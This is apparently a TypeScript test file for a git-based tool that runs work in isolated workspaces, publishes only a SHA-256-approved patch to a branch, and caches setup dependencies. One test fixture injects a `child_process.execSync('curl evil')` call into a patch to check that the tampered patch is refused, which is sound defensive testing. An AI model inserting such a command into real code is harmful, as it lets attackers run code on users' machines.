import { strict as assert } from 'node:assert';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import { join } from 'node:path';
import { GitWorkspaceProvider } from '../../../src/adapters/git/worktree';
import { GitOutputPublisher, NOTES_REF } from '../../../src/adapters/git/output';
import { sha256Hex } from '../../../src/core/hash';
import { DirectorySetupCache } from '../../../src/adapters/local/setup-cache';
import { git, tempRepo } from './temp-repo';

describe('adapters/git: run workspace and output branch (real git)', () => {
  it('clones at the base commit outside the working tree, diffs, restores, and never touches the user checkout', async () => {
    const t = tempRepo();
    fs.writeFileSync(join(t.repo, 'wip.txt'), 'user work in progress\n'); // the user's own uncommitted file
    const provider = new GitWorkspaceProvider(t.repo);
    const base = await provider.resolveBase(undefined);
    assert.equal(base, t.head);
    const ws = await provider.create('r1', base);
    assert.ok(ws.dir.includes(join('.git', 'shopfloor', 'workspaces', 'r1')));
    assert.equal(fs.existsSync(join(ws.dir, 'wip.txt')), false, 'the workspace is at the commit, not the checkout');

    fs.writeFileSync(join(ws.dir, 'index.js'), "module.exports = 'fixed';\n");
    fs.writeFileSync(join(ws.dir, 'new.test.js'), 'test\n');
    fs.rmSync(join(ws.dir, 'test.js'));
    const d = await ws.diff();
    assert.deepEqual(d.files.map((f) => `${f.status} ${f.path}`).sort(), ['added new.test.js', 'deleted test.js', 'modified index.js']);

    await ws.restore('');
    assert.equal((await ws.diff()).files.length, 0);
    await ws.restore(d.patch);
    assert.equal((await ws.diff()).patch, d.patch);

    assert.equal(git(t.repo, 'status', '--porcelain'), '?? wip.txt');
    assert.equal(git(t.repo, 'rev-parse', 'HEAD'), t.head);
    assert.ok(await provider.attach('r1', ws.dir, base));
    assert.equal(await provider.attach('r1', join(t.root, 'nope'), base), undefined);
    await assert.rejects(provider.resolveBase('deadbeef'), /does not exist/);
  });

  it('publishes branch shopfloor/<run-id> with one commit of the approved patch, trailers and an evidence note; repeatable', async () => {
    const t = tempRepo();
    fs.writeFileSync(join(t.repo, 'wip.txt'), 'uncommitted\n');
    const before = fs.readFileSync(join(t.repo, 'index.js'), 'utf8');
    const provider = new GitWorkspaceProvider(t.repo);
    const ws = await provider.create('r2', t.head);
    fs.writeFileSync(join(ws.dir, 'index.js'), "module.exports = 'fixed';\n");
    fs.writeFileSync(join(ws.dir, 'logo.bin'), Buffer.from([0, 1, 2, 255, 0, 10, 13, 0]));
    const patch = (await ws.diff()).patch;
    // After the diff: a change the gate never saw (a station's background process) must not ship.
    fs.writeFileSync(join(ws.dir, 'test.js'), 'pwned\n');
    const publisher = new GitOutputPublisher(t.repo);
    const req = {
      runId: 'r2',
      baseCommit: t.head,
      patch,
      approvedPatchSha256: sha256Hex(patch),
      message: 'Fix the parser\n\nShopfloor-Run: r2\nApproved-by: alice\nAgent: command:node fix.js\n',
      note: '# Shopfloor run r2: PR_READY\n',
      evidenceSha256: 'c'.repeat(64),
      date: '2026-11-21T20:00:00.000Z',
    };
    const out = await publisher.publish(req);
    assert.equal(out.branch, 'shopfloor/r2');
    assert.equal(git(t.repo, 'rev-parse', 'shopfloor/r2'), out.commit);
    assert.equal(git(t.repo, 'rev-parse', 'shopfloor/r2^'), t.head, 'exactly one commit on the base');
    assert.equal(git(t.repo, 'log', '-1', '--format=%(trailers:key=Approved-by,valueonly)', 'shopfloor/r2'), 'alice');
    assert.equal(git(t.repo, 'log', '-1', '--format=%(trailers:key=Shopfloor-Run,valueonly)', 'shopfloor/r2'), 'r2');
    assert.equal(git(t.repo, 'log', '-1', '--format=%an %cI', 'shopfloor/r2'), 'Dev 2026-11-21T20:00:00+00:00');
    // The note ends in the trailer that names the run and its evidence.json (format 1 of src/core/run/evidence-note.ts).
    assert.equal(git(t.repo, 'notes', `--ref=${NOTES_REF}`, 'show', out.commit), `# Shopfloor run r2: PR_READY\n\nShopfloor-Run: r2\nShopfloor-Evidence-SHA256: ${'c'.repeat(64)}`);
    assert.deepEqual(git(t.repo, 'diff', '--name-only', `${t.head}`, 'shopfloor/r2').split('\n'), ['index.js', 'logo.bin']);
    assert.equal(git(t.repo, 'diff', '--binary', '--no-color', t.head, 'shopfloor/r2'), patch.trimEnd(), 'the commit holds exactly the approved patch');
    assert.deepEqual([...execFileSync('git', ['show', 'shopfloor/r2:logo.bin'], { cwd: t.repo })], [0, 1, 2, 255, 0, 10, 13, 0]);
    // the user's checkout: same HEAD, same branch, same files, their uncommitted work intact
    assert.equal(git(t.repo, 'rev-parse', 'HEAD'), t.head);
    assert.equal(git(t.repo, 'symbolic-ref', '--short', 'HEAD'), 'main');
    assert.equal(fs.readFileSync(join(t.repo, 'index.js'), 'utf8'), before);
    assert.equal(git(t.repo, 'status', '--porcelain'), '?? wip.txt');
    // a resumed run publishing again gets the same branch and commit, even from a fresh publisher
    assert.deepEqual(await new GitOutputPublisher(t.repo).publish(req), out);
  });

  it('refuses a patch whose SHA-256 is not the approved one, and publishes nothing', async () => {
    const t = tempRepo();
    const provider = new GitWorkspaceProvider(t.repo);
    const ws = await provider.create('r3', t.head);
    fs.writeFileSync(join(ws.dir, 'index.js'), "module.exports = 'fixed';\n");
    const approved = (await ws.diff()).patch;
    const edited = approved.replace("'fixed'", "'fixed'; require('child_process').execSync('curl evil')");
    const req = { runId: 'r3', baseCommit: t.head, patch: edited, approvedPatchSha256: sha256Hex(approved), message: 'Fix\n', note: 'n\n', evidenceSha256: 'b'.repeat(64), date: '2026-11-21T20:00:00.000Z' };
    await assert.rejects(new GitOutputPublisher(t.repo).publish(req), (e: Error) => e.name === 'OutputRefusedError' && /not the one the output gate approved/.test(e.message));
    assert.equal(git(t.repo, 'branch', '--list', 'shopfloor/*'), '');
    assert.equal(git(t.repo, 'notes', `--ref=${NOTES_REF}`, 'list'), '');
  });
});

describe('adapters/local/setup-cache: set-up reused on the same base commit', () => {
  it('saves the ignored files a set-up installed and restores them into a fresh workspace', async () => {
    const t = tempRepo();
    const provider = new GitWorkspaceProvider(t.repo);
    const cache = new DirectorySetupCache(join(await provider.stateDir(), 'setup-cache'));
    const a = await provider.create('s1', t.head);
    assert.equal(await cache.restore('k', a), false);
    fs.mkdirSync(join(a.dir, 'node_modules', 'dep'), { recursive: true });
    fs.writeFileSync(join(a.dir, 'node_modules', 'dep', 'index.js'), 'dep');
    await cache.save('k', a);
    const b = await provider.create('s2', t.head);
    assert.equal(await cache.restore('k', b), true);
    assert.equal(fs.readFileSync(join(b.dir, 'node_modules', 'dep', 'index.js'), 'utf8'), 'dep');
    assert.equal((await b.diff()).files.length, 0, 'restored dependencies are ignored, not part of the change');
  });
  it('keeps only the dependency trees for other commits, and reads the committed package files as blobs', async () => {
    const t = tempRepo();
    fs.writeFileSync(join(t.repo, 'package.json'), '{"name":"app"}\n');
    fs.writeFileSync(join(t.repo, '.gitignore'), 'node_modules/\n.shopfloor/\ndist/\n');
    git(t.repo, 'add', '-A');
    git(t.repo, 'commit', '-q', '-m', 'manifest');
    const head = git(t.repo, 'rev-parse', 'HEAD');
    const provider = new GitWorkspaceProvider(t.repo);
    const cache = new DirectorySetupCache(join(await provider.stateDir(), 'setup-cache'));
    const a = await provider.create('d1', head);
    fs.writeFileSync(join(a.dir, 'package.json'), '{"name":"edited in the workspace"}\n');
    assert.equal(await a.baseFile!('package.json'), '{"name":"app"}\n', 'the base commit, not the workspace');
    assert.equal(await a.baseFile!('package-lock.json'), undefined);
    fs.mkdirSync(join(a.dir, 'node_modules', 'dep'), { recursive: true });
    fs.writeFileSync(join(a.dir, 'node_modules', 'dep', 'index.js'), 'dep');
    fs.mkdirSync(join(a.dir, 'dist'));
    fs.writeFileSync(join(a.dir, 'dist', 'built.js'), 'of this commit');
    await cache.save('trees', a, { only: 'dependency-trees' });
    const b = await provider.create('d2', t.head);
    assert.equal(await cache.restore('trees', b), true);
    assert.equal(fs.readFileSync(join(b.dir, 'node_modules', 'dep', 'index.js'), 'utf8'), 'dep');
    assert.equal(fs.existsSync(join(b.dir, 'dist')), false, 'what set-up built for one commit is not given to another');
    const c = await provider.create('d3', head);
    await cache.save('empty', c, { only: 'dependency-trees' });
    assert.equal(await cache.restore('empty', c), false, 'no dependency tree, nothing kept');
  });
});
